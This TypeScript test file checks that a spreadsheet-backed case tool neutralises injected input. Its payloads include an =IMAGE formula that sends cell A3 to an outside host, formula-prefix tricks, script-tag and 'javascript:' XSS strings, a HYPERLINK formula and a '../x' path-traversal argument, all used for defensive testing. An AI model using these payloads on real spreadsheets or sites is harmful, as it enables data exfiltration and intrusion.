import { expect, test } from 'vitest';
import './support/patience.ts';
import { TestExtension } from './support/extension.ts';
import { TestSheet } from './support/sheet.ts';

/** What a page or a resident may have written. None of it may come alive in the sheet. */
const HOSTILE = [
  '=IMAGE("https://example.se/?"&A3)',
  '=1+1',
  '+46 70 000 00 00',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '007',
  '2026/12',
  '1/2',
  'TRUE',
  '1e5',
  '<script>alert(1)</script>',
  '{"holder":"nobody"}',
  'matters.key',
];

test('hostile text never becomes a formula, a number or a date, and is read back as it was written', () => {
  const sheet = TestSheet.ready();
  const extension = new TestExtension(sheet);
  extension.pair();
  const reply = extension.deliver(
    HOSTILE.map((text) =>
      extension.capture({
        title: `${text}x`,
        text: `${text} slut`,
        place: text,
        theme: text,
        fields: [{ label: text, value: text }],
      }),
    ),
  );
  expect(reply).toMatchObject({ receipts: HOSTILE.map(() => ({ result: 'done' })) });
  for (const { properties, cells } of sheet.workbook.state.sheets) {
    for (const row of cells) {
      for (const cell of row ?? []) {
        expect(cell?.formula, `${properties.name}: ${String(cell?.value)}`).toBeUndefined();
      }
    }
  }
  const numbers = sheet.rows('Ärenden').map((row) => row.key ?? '');
  HOSTILE.forEach((text, index) => {
    const card = sheet.card(numbers[index] ?? '');
    // An apostrophe before a formula cannot be told from the one that guards; the event list has the exact words.
    expect(card?.text).toBe(`${text} slut`.trim().replace(/^'=/, '='));
    expect(card?.state.place).toBe(text.trim());
  });
});

test('the same through every step: question, answer, reason, feedback, owner', () => {
  const sheet = TestSheet.ready();
  const matter = sheet.capture();
  const text = '=HYPERLINK("https://example.se";"klicka")';
  sheet.done({ type: 'triage', matter, owner: text, theme: text });
  sheet.done({ type: 'refer', matter, organisation: 'polisen', question: text });
  sheet.done({ type: 'record_answer', matter, referral: `${matter}/R1`, outcome: 'no_with_reason', text });
  sheet.done({ type: 'decide', matter, outcome: 'no', reason: text });
  sheet.done({ type: 'give_feedback', matter, channel: 'mail', text, link: 'https://example.se/svar' });
  sheet.done({ type: 'close', matter });
  const formulas = sheet.workbook.state.sheets.flatMap(({ cells }) =>
    cells.flatMap((row) => (row ?? []).filter((cell) => cell?.formula !== undefined)),
  );
  expect(formulas).toEqual([]);
  expect(sheet.row('Remisser', `${matter}/R1`)?.question).toContain('=HYPERLINK');
});

test('an address that is not of the web never becomes a link', () => {
  const sheet = TestSheet.ready();
  const reply = sheet.perform({
    type: 'capture',
    kind: 'comment',
    channel: 'mail',
    title: 'Titel',
    text: 'Text',
    permalink: 'javascript:alert(1)',
  });
  expect(reply.result).toBe('refused');
});

test('arguments of a panel that are no such thing are refused in words', () => {
  const sheet = TestSheet.ready();
  for (const [name, args] of [
    ['readCard', [{ selection: 'yes' }]],
    ['readCard', [null]],
    ['perform', ['all']],
    ['perform', [Array.from({ length: 101 }, () => ({}))]],
    ['readOverview', [{ since: '1' }]],
    ['readMatterLines', [[7]]],
    ['readReferralLines', ['all']],
    ['showMatter', [{}]],
    ['revokeDevice', ['../x']],
    ['revokeDevice', [{ id: 1 }]],
  ] as const) {
    const result = sheet.run(name, args);
    expect(result.ok && result.value).toMatchObject({ ok: false, message: expect.stringMatching(/\.$/) });
  }
});
